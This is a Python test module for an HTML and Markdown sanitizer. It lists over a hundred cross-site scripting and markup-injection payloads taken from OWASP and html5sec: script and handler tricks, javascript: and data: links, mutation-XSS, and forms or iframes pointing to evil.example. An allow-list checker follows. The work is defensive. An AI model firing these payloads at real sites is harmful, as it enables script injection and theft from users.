"""Hostile input, after the OWASP and html5sec collections, and the checker that says what of a markup is still active."""

import re
from html.parser import HTMLParser

from lxml import html

from content.richtext import LINK_SCHEMES

DEEP = 5_000  # levels

#: Every one of these must come out of the cleaning with nothing active.
HOSTILE = {
    # --- Scripts ---
    "script": "<script>alert(1)</script>",
    "script-case": "<ScRiPt>alert(1)</sCrIpT>",
    "script-with-source": '<script src="https://evil.example/x.js"></script>',
    "script-space-in-end-tag": "<script>alert(1)</script >",
    "script-slash": "<script/src=//evil.example/x.js></script>",
    "script-unclosed": "<script>alert(1)//",
    "script-split": "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "script-in-attribute": '<p title="</p><script>alert(1)</script>">x</p>',
    "script-extra-brackets": "<<script>alert(1);//<</script>",
    "script-in-entities": "&lt;script&gt;alert(1)&lt;/script&gt;",
    "script-in-double-entities": "&amp;lt;script&amp;gt;alert(1)",
    "script-import-map": '<script type="importmap">{"imports": {"x": "https://evil.example/"}}</script>',
    "script-utf7": "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "script-full-width": "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
    # --- Handlers ---
    "handler-on-image": '<img src="/media/a.png" onerror="alert(1)">',
    "handler-case": '<img src="/media/a.png" oNeRrOr=alert(1)>',
    "handler-slash-separated": "<img/src=x/onerror=alert(1)>",
    "handler-new-line": '<a href="/x/"\nonclick="alert(1)">x</a>',
    "handler-form-feed": '<a href="/x/"\x0conmouseover="alert(1)">x</a>',
    "handler-on-allowed-tags": '<p onclick="alert(1)">x</p><strong onfocus=alert(1) tabindex=0 autofocus>y</strong>',
    "handler-in-table": '<table onload=alert(1)><tr onclick=alert(1)><td onmouseenter=alert(1)>x</td></tr></table>',
    "handler-on-care-card": '<div class="care care-gp" onclick="alert(1)"><h3 onclick="alert(1)">x</h3></div>',
    "handler-popover": '<button popovertarget="x" onclick="alert(1)">x</button><div popover id="x" ontoggle="alert(1)">y</div>',
    "handler-details": '<details open ontoggle="alert(1)"><summary>x</summary></details>',
    "handler-animation": '<p style="animation-name:x" onanimationstart="alert(1)">x</p>',
    "handler-body": '<body onload="alert(1)">x</body>',
    "handler-marquee": "<marquee onstart=alert(1)>x</marquee>",
    "handler-backtick": "<img src=`x`onerror=alert(1)>",
    "handler-quote-breakout": '<img src="/media/a.png" alt="x" onerror="alert(1)" alt=\'"><script>alert(1)</script>\'>',
    "handler-video": '<video src="x" onerror="alert(1)"><source onerror="alert(1)"></video><audio src onloadstart=alert(1)>',
    # --- Addresses of links ---
    "javascript": '<a href="javascript:alert(1)">x</a>',
    "javascript-case": '<a href="JaVaScRiPt:alert(1)">x</a>',
    "javascript-tab": '<a href="java\tscript:alert(1)">x</a>',
    "javascript-new-line": '<a href="java\nscript:alert(1)">x</a>',
    "javascript-carriage-return": '<a href="java\rscript:alert(1)">x</a>',
    "javascript-entities": '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>',
    "javascript-hex-entities": '<a href="&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert(1)">x</a>',
    "javascript-entity-tab": '<a href="jav&Tab;ascript&colon;alert(1)">x</a>',
    "javascript-entity-new-line": '<a href="java&NewLine;script:alert(1)">x</a>',
    "javascript-leading-space": '<a href="  javascript:alert(1)">x</a>',
    "javascript-leading-control": '<a href="\x01javascript:alert(1)">x</a>',
    "javascript-control-inside": '<a href="java\x01script:alert(1)">x</a>',
    "javascript-control-entity-inside": '<a href="java&#1;script:alert(1)">x</a>',
    "javascript-not-a-character": '<a href="java\ufffescript:alert(1)">x</a>',
    "javascript-unquoted": "<a href=javascript:alert(1)>x</a>",
    "javascript-comment": '<a href="javascript://%0aalert(1)">x</a>',
    "javascript-twice": '<a href="/x/" href="javascript:alert(1)">x</a><a href="javascript:alert(1)" href="/x/">y</a>',
    "javascript-in-image": '<img src="javascript:alert(1)" alt="x">',
    "javascript-long-s": '<a href="java\u017fcript:alert(1)">x</a>',
    "vbscript": '<a href="vbscript:msgbox(1)">x</a>',
    "vbscript-tab": '<a href="vb\tscript:msgbox(1)">x</a>',
    "data-page": '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    "data-page-base64": '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
    "data-picture": '<img src="data:image/svg+xml,<svg onload=alert(1)>" alt="x">',
    "blob-file-and-others": '<a href="blob:x">a</a><a href="file:///etc/passwd">b</a><a href="filesystem:x">c</a><a href="view-source:x">d</a>',
    "other-host-without-scheme": '<a href="//evil.example/">x</a>',
    "other-host-without-scheme-entity": '<a href="&#47;/evil.example/">x</a>',
    "other-host-leading-tab": '<a href="\t//evil.example/">x</a>',
    "other-host-tab-inside": '<a href="/\t/evil.example/">x</a>',
    "other-host-new-line-entity": '<a href="/&NewLine;/evil.example/">x</a>',
    "other-host-backslash": '<a href="/\\evil.example/">x</a>',
    "other-host-two-backslashes": '<a href="\\\\evil.example/">x</a>',
    "other-host-three-slashes": '<a href="///evil.example/">x</a>',
    "link-attributes": '<a href="/x/" ping="https://evil.example/" target="_blank" download style="x" class="button" id="main">x</a>',
    "link-xlink": '<a xlink:href="javascript:alert(1)">x</a>',
    "fact-as-address": '<a href="{{complaints}}">x</a>',
    "fact-in-address": '<a href="javascript:{{fees}}">x</a>',
    # --- Pictures ---
    "picture-other-host": '<img src="https://evil.example/media/a.png" alt="x">',
    "picture-other-host-without-scheme": '<img src="//evil.example/media/a.png" alt="x">',
    "picture-climbs": '<img src="/media/../admin/logout/" alt="x">',
    "picture-climbs-encoded": '<img src="/media/%2e%2e/admin/logout/" alt="x">',
    "picture-climbs-half-encoded": '<img src="/media/.%2e/admin/logout/" alt="x">',
    "picture-climbs-backslash": '<img src="/media/..\\admin/" alt="x">',
    "picture-from-elsewhere-on-the-site": '<img src="/admin/logout/" alt="x">',
    "picture-with-query": '<img src="/media/a.png?x=1" alt="x">',
    "picture-srcset": '<img src="/media/a.png" srcset="https://evil.example/a.png 2x" sizes="1px" alt="x">',
    "picture-lowsrc": '<img src="/media/a.png" lowsrc="javascript:alert(1)" dynsrc="x" usemap="#m" longdesc="x" alt="x">',
    "picture-element": '<picture><source srcset="https://evil.example/a.png"><img src="/media/a.png" alt="x"></picture>',
    "picture-input": '<input type="image" src="https://evil.example/a.png" onerror="alert(1)">',
    "picture-old-tag": '<image src="https://evil.example/a.png" onerror="alert(1)">',
    # --- Foreign elements ---
    "svg-onload": '<svg onload="alert(1)"><circle r="9"/></svg>',
    "svg-script": "<svg><script>alert(1)</script></svg>",
    "svg-link": '<svg><a xlink:href="javascript:alert(1)"><text y="9">x</text></a></svg>',
    "svg-animate": '<svg><a><animate attributeName="href" values="javascript:alert(1)"/>x</a></svg>',
    "svg-use": '<svg><use href="data:image/svg+xml,<svg id=x onload=alert(1)>#x"/></svg>',
    "svg-foreign-object": "<svg><foreignObject><iframe srcdoc='<script>alert(1)</script>'></iframe></foreignObject></svg>",
    "svg-style-breakout": "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "mathml-link": '<math><mtext href="javascript:alert(1)">x</mtext></math>',
    "mathml-action": '<math><maction actiontype="statusline#" xlink:href="javascript:alert(1)">x</maction></math>',
    "iframe": '<iframe src="https://evil.example/"></iframe>',
    "iframe-srcdoc": '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    "iframe-breakout": '<iframe><p title="</iframe><img src=x onerror=alert(1)>"></iframe>',
    "frameset": '<frameset><frame src="javascript:alert(1)"></frameset>',
    "object": '<object data="javascript:alert(1)"></object>',
    "embed": '<embed src="data:text/html,<script>alert(1)</script>">',
    "applet": '<applet code="x.class" archive="https://evil.example/x.jar"></applet>',
    "portal": '<portal src="https://evil.example/" onload="alert(1)"></portal>',
    "form": '<form action="https://evil.example/"><input name="phone"><button>Send</button></form>',
    "form-action-button": '<button formaction="javascript:alert(1)">x</button>',
    "form-hijack": '<input form="enquiry" name="message"><textarea form="enquiry"></textarea><select><option>x</select>',
    "base": '<base href="https://evil.example/">',
    "meta-refresh": '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
    "meta-policy": '<meta http-equiv="Content-Security-Policy" content="default-src *">',
    "link-element": '<link rel="stylesheet" href="https://evil.example/x.css"><link rel="import" href="x">',
    "template": "<template><script>alert(1)</script></template>",
    "template-shadow": '<div><template shadowrootmode="open"><script>alert(1)</script></template></div>',
    "slot-and-custom-element": "<x-evil onclick=alert(1)>x</x-evil><slot name=x></slot>",
    "dialog": '<dialog open id="x">Your session has ended</dialog>',
    # --- Styles and names ---
    "style-element": "<style>body{display:none} @import 'https://evil.example/x.css';</style>",
    "style-attribute": '<p style="position:fixed;inset:0;background:url(https://evil.example/)">x</p>',
    "style-expression": '<div style="width:expression(alert(1))">x</div>',
    "style-binding": '<p style="-moz-binding:url(https://evil.example/x.xml#x)">x</p>',
    "class-foreign-on-box": '<div class="crisis masthead">x</div>',
    "class-foreign-beside-care": '<div class="care care-gp visually-hidden">x</div>',
    "class-on-text": '<p class="visually-hidden">x</p><h2 class="crisis">y</h2><figure class="leave"><img src="/media/a.png" alt="x"></figure>',
    "id-clobbers": '<a id="main" name="csrfmiddlewaretoken" href="/x/">x</a><img name="body" id="body" src="/media/a.png" alt="">',
    "data-and-aria": '<p data-leave data-file="x" aria-hidden="true" role="alert" contenteditable tabindex="1" popover is="x">x</p>',
    "title-attribute": '<a href="/x/" title="x&quot; onclick=&quot;alert(1)">x</a>',
    # --- Broken and nested markup ---
    "mxss-noscript": '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
    "mxss-style-in-math": "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "mxss-form-in-math": "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "mxss-svg-title": "<svg></p><style><a id='</style><img src=1 onerror=alert(1)>'>",
    "mxss-annotation": '<math><annotation-xml encoding="text/html"><style><img src=x onerror=alert(1)></style></annotation-xml></math>',
    "mxss-textarea": '<textarea><img title="</textarea><img src=x onerror=alert(1)>"></textarea>',
    "mxss-title": '<title><a href="</title><img src=x onerror=alert(1)>"></title>',
    "mxss-xmp": '<xmp><p title="</xmp><script>alert(1)</script>"></xmp>',
    "mxss-noembed": '<noembed><img title="</noembed><img src onerror=alert(1)>"></noembed>',
    "mxss-noframes": '<noframes><p title="</noframes><svg onload=alert(1)>"></noframes>',
    "mxss-plaintext": "<plaintext><script>alert(1)</script>",
    "mxss-backtick": '<img alt="``onerror=alert(1)" src="/media/a.png" title="``onload=alert(1)">',
    "mxss-select": "<select><style></select><img src=x onerror=alert(1)></style>",
    "mxss-table": "<table><a href='/x/'><td><table><script>alert(1)</script></table></a>",
    "comment": "<!-- <img src=x onerror=alert(1)> -->x",
    "comment-breakout": "<!--><img src=x onerror=alert(1)>-->",
    "comment-breakout-dash": "<!--- ><script>alert(1)</script> -->",
    "comment-conditional": "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
    "cdata": "<![CDATA[<script>alert(1)</script>]]>",
    "cdata-in-svg": "<svg><![CDATA[><img src=x onerror=alert(1)>]]></svg>",
    "processing-instruction": '<?xml-stylesheet href="javascript:alert(1)"?><?php echo 1 ?>x',
    "doctype-entity": '<!DOCTYPE x [<!ENTITY y SYSTEM "file:///etc/passwd">]><p>&y;</p>',
    "whole-page": "<html><head><title>x</title></head><body><p>x</p><script>alert(1)</script></body></html>",
    "unclosed-tag": '<p>x</p><img src="/media/a.png" onerror="alert(1)"',
    "unclosed-quote": '<a href="/x/>x</a><img src=x onerror=alert(1)>',
    "crossed-tags": "<strong><p>x</strong></p><a href='/x/'><a href='javascript:alert(1)'>y</a></a>",
    "end-tags-only": "</div></p></body></html><script>alert(1)</script>",
    "namespace-prefix": '<html:script xmlns:html="http://www.w3.org/1999/xhtml">alert(1)</html:script>',
    "citation-with-markup": "<p>[<script>alert(1)</script>-2025] [a-<img src=x onerror=alert(1)>] [harding-2025<b onclick=x>]</p>",
    "fact-with-markup": "<p>{{<script>alert(1)</script>}} {{ fees|safe }} {% include 'x' %} ${alert(1)} <%= 1 %></p>",
    # --- Odd characters and sizes ---
    "null-in-tag": "<scr\x00ipt>alert(1)</scr\x00ipt>",
    "null-in-address": '<a href="java\x00script:alert(1)">x</a>',
    "control-characters": "<p>a\x01b\x08c\x0bd\x0ce\x1ff&#1;g&#11;h\ufffe\uffff</p>",
    "right-to-left-override": '<a href="/x/">\u202etpircs\u202c</a>\u2066x\u2069',
    "zero-width": "<scr\u200bipt>alert(1)</scr\u200bipt>",
    "overlong-attribute": f'<a href="/{"x" * 100_000}" onclick="alert(1)">x</a>',
    "overlong-name": f"<{'x' * 100_000} onclick=alert(1)>x",
    "many-attributes": f"<p {' '.join(f'on{number}=alert(1)' for number in range(2_000))}>x</p>",
    "deep-unknown-elements": "<b>" * DEEP + "<script>alert(1)</script>",
    "deep-paragraphs": "<p>" * DEEP + "x",
    "deep-svg": "<svg>" * DEEP + "<script>alert(1)</script>",
}  # fmt: skip

#: Nested too deeply to be text: refused with a message, so that nothing is stored.
TOO_DEEP = {
    "deep-boxes": "<div>" * DEEP + "x" + "</div>" * DEEP,
    "deep-lists": "<ul><li>" * DEEP + "x",
    "deep-bold": "<strong>" * DEEP + "x",
    "deep-tables": "<table><tr><td>" * DEEP + "x",
    "deep-enough-to-matter": "<ul><li>" * 25 + "x",
}

#: Hostile in Markdown only, which makes links, pictures and care cards of it.
MARKDOWN = {
    "javascript-link": "[x](javascript:alert(1))",
    "javascript-link-entity": "[x](&#106;avascript:alert(1))",
    "javascript-link-angle": "[x](<java\tscript:alert(1)>)",
    "javascript-reference": "[x][y]\n\n[y]: javascript:alert(1)",
    "javascript-autolink": "<javascript:alert(1)>",
    "data-link": "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "data-picture": "![x](data:image/png;base64,AAAA)",
    "other-host-link": "[x](//evil.example/)",
    "other-host-backslash": "[x](/\\\\evil.example/)",
    "other-host-picture": "![x](https://evil.example/a.png)",
    "picture-climbs": "![x](/media/../admin/logout/)",
    "title-breakout": '[x](/x/ "\\" onclick=\\"alert(1)")',
    "care-card-heading": "::: gp <script>alert(1)</script> [x](javascript:alert(1))\ntext\n:::",
    "code-block": "    <script>alert(1)</script>",
    "fence-with-info": '```"><script>alert(1)</script>\nx\n```',
    "deep-quotes": "> " * DEEP + "x",
    "deep-lists": "- " * DEEP + "x",
}

# --- The checker ------------------------------------------------------------------------------------------------------

CARE_CLASSES = {"care", "care-info", "care-gp", "care-urgent", "care-emergency"}
SIMPLE_TAGS = {"p", "strong", "em", "br", "ul", "ol", "li", "a"}
CARE_TAGS = SIMPLE_TAGS | {"div", "h3"}
BODY_TAGS = CARE_TAGS | {"h2", "table", "thead", "tbody", "tr", "th", "td", "figure", "figcaption", "img"}
NUMBER = re.compile(r"\d{1,4}%?")
ATTRIBUTES = {
    ("a", "href"): re.compile(rf"(?:(?:{'|'.join(sorted(LINK_SCHEMES))}):|/(?![/\\])|#)[^\x00-\x1f\\]*", re.IGNORECASE),
    ("img", "src"): re.compile(r"/media/(?!.*\.\.)[a-zA-Z0-9_./-]+"),
    ("img", "alt"): re.compile(r".*", re.DOTALL),
    ("img", "width"): NUMBER,
    ("img", "height"): NUMBER,
    ("div", "class"): re.compile(rf"(?:(?:{'|'.join(sorted(CARE_CLASSES))})(?: |$))+"),
    ("td", "colspan"): NUMBER,
    ("td", "rowspan"): NUMBER,
    ("th", "colspan"): NUMBER,
    ("th", "rowspan"): NUMBER,
    ("ol", "start"): NUMBER,
    ("ol", "type"): re.compile(r"[1aAiI]"),
    ("ol", "data-type"): re.compile(r"[a-z-]+"),
}
#: What rendering adds for readers: citations, definitions, anchors, frames of tables, spoken words.
RENDERED_TAGS = BODY_TAGS | {"sup", "span", "button"}
RENDERED_ATTRIBUTES = {
    **ATTRIBUTES,
    ("a", "id"): re.compile(r"cite-\d+-\d+"),
    ("a", "aria-label"): re.compile(r"Source \d+"),
    ("h2", "id"): re.compile(r"[\w-]+"),
    ("img", "loading"): re.compile(r"lazy"),
    ("th", "scope"): re.compile(r"row|col"),
    ("span", "class"): re.compile(r"visually-hidden"),
    ("button", "class"): re.compile(r"term"),
    ("button", "type"): re.compile(r"button"),
    ("button", "popovertarget"): re.compile(r"term-[\w-]+"),
    ("div", "class"): re.compile(rf"table-frame|{ATTRIBUTES['div', 'class'].pattern}"),
    ("div", "tabindex"): re.compile(r"0"),
    ("div", "role"): re.compile(r"region"),
    ("div", "aria-label"): re.compile(r"Table"),
}


def active_parts(markup: str, tags: set[str] = BODY_TAGS, attributes: dict = ATTRIBUTES) -> list[str]:
    """Return whatever in `markup` is not on the list, as two parsers of different make see it."""
    found = []
    for tag, pairs in [*_as_lxml_sees_it(markup), *_as_python_sees_it(markup)]:
        if tag not in tags:
            found.append(f"<{tag}>")
            continue
        for name, value in pairs:
            pattern = attributes.get((tag, name))
            if pattern is None or not pattern.fullmatch(value or ""):
                found.append(f'<{tag} {name}="{value}">'[:200])
    return found


def active_parts_of_page(markup: str) -> list[str]:
    """Return whatever in rendered `markup` neither an editor may make nor rendering adds."""
    return active_parts(markup, RENDERED_TAGS, RENDERED_ATTRIBUTES)


def _as_lxml_sees_it(markup):
    root = html.fragment_fromstring(markup, create_parent="section")
    return [(str(element.tag), element.items()) for element in root.iterdescendants()]


class _Collector(HTMLParser):
    def __init__(self):
        super().__init__()
        self.seen = []

    def handle_starttag(self, tag, attrs):
        self.seen.append((tag, attrs))

    def handle_comment(self, data):
        self.seen.append(("comment", []))

    def handle_decl(self, decl):
        self.seen.append(("declaration", []))

    def handle_pi(self, data):
        self.seen.append(("instruction", []))

    def unknown_decl(self, data):
        self.seen.append(("declaration", []))


def _as_python_sees_it(markup):
    collector = _Collector()
    collector.feed(markup)
    collector.close()
    return collector.seen
